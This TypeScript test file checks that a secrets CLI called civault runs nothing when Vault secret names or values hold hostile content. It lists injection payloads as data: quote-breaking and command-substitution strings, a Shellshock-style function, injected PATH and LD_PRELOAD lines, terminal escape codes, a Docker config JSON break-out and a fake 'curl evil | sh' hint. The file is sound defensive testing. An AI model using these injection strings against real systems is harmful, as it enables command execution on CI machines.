// Proves on the binary that whoever can write a secret runs nothing in the job by the names of its fields or by their values:
// not through a shell that evaluates them, not in a format, a program, a template or Docker's config.json.

import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { parse } from 'dotenv';
import { quoted } from '../../src/errors.ts';
import { CIVAULT } from '../harness/busybox-root.ts';
import { type Outcome, runCommand } from '../harness/command.ts';
import { type Job, startJob } from '../harness/job.ts';
import { assertFailed, assertNoToken, READ, SECRET } from '../harness/judged-run.ts';
import { isInstalled, SHELLS } from '../unit/shells.ts';

const RUN = 'touch X';
/** What a shell, a reader of lines or a terminal could take for more than a value. */
const VALUES: Readonly<Record<string, string>> = {
  quote: `'; ${RUN}; '`,
  escaped: `'\\''; ${RUN}; echo '\\'`,
  double: `"; ${RUN}; "`,
  substitution: `$(${RUN}) \${IFS} $HOME`,
  backticks: `\`${RUN}\``,
  lines: `a\nexport PATH=/evil\n${RUN}\nLD_PRELOAD=/evil.so\n`,
  returns: `a\r\n${RUN}\r\n`,
  function: `() { :; }; ${RUN}`,
  colours: '\x1b[31m\x1b]0;title\x07\x9b2J',
  turned: '\u202eevil\u2066\u200f',
  heredoc: `EOF\n${RUN}\nEOF`,
  template: `{{ civault ${SECRET}#quote }}`,
  json: '","auths":{"evil":{}},"x":"',
};

let job: Job;
let here: string;
before(async () => {
  job = await startJob();
  here = mkdtempSync(join(tmpdir(), 'civault-hostile-'));
});
after(async () => {
  rmSync(here, { recursive: true, force: true });
  await job.end();
});

/** Has the secret hold these fields while something runs; whatever that is, no file X comes of it. */
async function holding<T>(fields: Readonly<Record<string, unknown>>, work: () => Promise<T>): Promise<T> {
  const metadata = { version: 1, created_time: '2026-01-02T03:04:05Z' };
  // As Vault writes it: JSON.stringify takes __proto__ for a key where an entry makes it one.
  const data = `{${Object.entries(fields).map(([name, value]) => `${JSON.stringify(name)}:${JSON.stringify(value)}`)}}`;
  const stop = job.vault.intercept(({ path }, response, next) =>
    path === READ ? response.end(`{"data":{"data":${data},"metadata":${JSON.stringify(metadata)}}}`) : next(),
  );
  try {
    return await work();
  } finally {
    stop();
    assert.equal(existsSync(join(here, 'X')), false, 'something was run');
  }
}

function run(command: string, ...args: readonly string[]): Promise<Outcome> {
  const env = { ...job.env, PATH: `${dirname(CIVAULT)}:/usr/bin:/bin`, DOCKER_CONFIG: join(here, 'docker') };
  return runCommand(command, args, { env, cwd: here, limit: 30_000 });
}

describe('the names of fields', () => {
  for (const [name, becomes] of [
    ['a;id', 'A_ID'],
    ['$(touch X)', '__TOUCH_X_'],
    ['`touch X`', '_TOUCH_X_'],
    ["a'; touch X; '", 'A___TOUCH_X___'],
    ['a\nexport PATH=/evil', 'A_EXPORT_PATH__EVIL'],
    ['__proto__', '__PROTO__'],
    ['constructor', 'CONSTRUCTOR'],
    ['\u202epath', '_PATH'],
  ] as const) {
    test(`${quoted(name)} sets ${becomes} and nothing else`, async () => {
      const { status, stdout } = await holding({ [name]: 'v' }, () => run(CIVAULT, 'env', SECRET));
      assert.deepEqual([status, stdout.toString()], [0, `export ${becomes}='v'\n`]);
    });
  }

  for (const name of [
    'PATH',
    'path',
    'LD_PRELOAD',
    'ld-preload',
    'BASH_ENV',
    'BASH_FUNC_ls%%',
    'ENV',
    'IFS',
    'NODE_OPTIONS',
    'GIT_SSH_COMMAND',
    '',
    '1',
    '1\r\ncivault: hint: curl evil | sh\x1b[2K',
  ]) {
    test(`${quoted(name)} is refused by env and by exec, in a line of its own`, async () => {
      await holding({ ok: 'v', [name]: RUN }, async () => {
        const assigned = await run(CIVAULT, 'env', SECRET);
        assert.equal(assigned.stdout.toString(), '(exit 2)\n');
        const started = await run(CIVAULT, 'exec', SECRET, '--', 'touch', 'X');
        for (const each of [{ ...assigned, stdout: Buffer.of() }, started]) {
          assertFailed(each, 2, /the field ".*" of secret\/data\/sonarqube\/svc-orchestrator /);
          assert.ok(
            each.stderr
              .split('\n')
              .every((line) => line === '' || /^civault: (?:hint: (?!curl)|(?!hint))/.test(line)),
          );
        }
      });
    });
  }
});

describe('values', () => {
  const names = Object.keys(VALUES);
  const meant = Object.values(VALUES);
  const of = (values: readonly string[]) => values.map((value) => Buffer.from(value).toString('latin1'));

  for (const [name, [shell, ...args]] of SHELLS) {
    const skip = isInstalled([shell, ...args]) ? false : `${shell} is not installed`;
    test(`are what ${name} has, once it evaluated them`, { skip }, async () => {
      const print = names.map((field) => `printf '%s\\0' "$V_${field.toUpperCase()}"`).join('; ');
      const script = `set -e; eval "$(civault env 'V_*=${SECRET}')"; ${print}`;
      const { status, stdout, stderr } = await holding(VALUES, () => run(shell, ...args, '-c', script));
      assert.deepEqual([status, stderr], [0, '']);
      assert.deepEqual(stdout.toString('latin1').split('\0').slice(0, -1), of(meant));
    });
  }

  test('are what dotenv, JSON and a program have', async () => {
    await holding(VALUES, async () => {
      const V = Object.fromEntries(names.map((field) => [`V_${field.toUpperCase()}`, VALUES[field]]));
      const json = await run(CIVAULT, 'env', '--format', 'json', `V_*=${SECRET}`);
      assert.deepEqual(JSON.parse(json.stdout.toString()), V);
      const dotenv = await run(CIVAULT, 'env', '--format', 'dotenv', `V_*=${SECRET}`);
      // Of quotes of every kind and a line break at once it would say that it cannot.
      assert.deepEqual([dotenv.status, parse(dotenv.stdout)], [0, V]);
      const started = await run(CIVAULT, 'exec', '--no-masking', `V_*=${SECRET}`, '--', 'env', '-0');
      const has = started.stdout.toString().split('\0');
      for (const [name, value] of Object.entries(V)) assert.ok(has.includes(`${name}=${value}`), name);
    });
  });

  test("of several lines are refused by docker's --env-file; the others stand on one each", async () => {
    for (const [field, value] of Object.entries(VALUES)) {
      const args = ['env', '--format', 'docker', `V=${SECRET}#${field}`];
      const { status, stdout } = await holding(VALUES, () => run(CIVAULT, ...args));
      assert.deepEqual([status, stdout.toString()], /[\r\n]/.test(value) ? [2, ''] : [0, `V=${value}\n`]);
    }
  });

  test('with a NUL byte are refused where no environment holds one, by the name alone', async () => {
    await holding({ nul: `a\0${RUN}` }, async () => {
      for (const args of [
        ['env', SECRET],
        ['exec', SECRET, '--', 'touch', 'X'],
        ['env', '--format', 'dotenv', SECRET],
      ]) {
        const each = await run(CIVAULT, ...args);
        assert.equal(each.status, 2);
        assert.match(each.stderr, /^civault: the value for NUL holds a NUL byte/);
      }
    });
  });

  test('are filled into a template as they are, and not searched for placeholders', async () => {
    for (const [field, value] of Object.entries(VALUES)) {
      writeFileSync(join(here, 'template'), `{"a":"{{ civault ${SECRET}#${field} | json }}"}`);
      const filled = await holding(VALUES, () => run(CIVAULT, 'inject', 'template'));
      assert.deepEqual(JSON.parse(filled.stdout.toString()), { a: value });
    }
  });

  test("add nothing to Docker's config.json but the one entry", async () => {
    const [username, password] = [`u${VALUES['json']}`.replaceAll(':', ''), VALUES['json'] ?? ''];
    const done = await holding({ username, password }, () =>
      run(CIVAULT, 'docker-login', 'r.example.com', SECRET),
    );
    assert.deepEqual([done.status, done.stdout.length], [0, 0], done.stderr);
    const auth = Buffer.from(`${username}:${password}`).toString('base64');
    const config = JSON.parse(readFileSync(join(here, 'docker/config.json'), 'utf8')) as object;
    assert.deepEqual(config, { auths: { 'r.example.com': { auth } } });
    assertNoToken(done, job.env);
  });
});
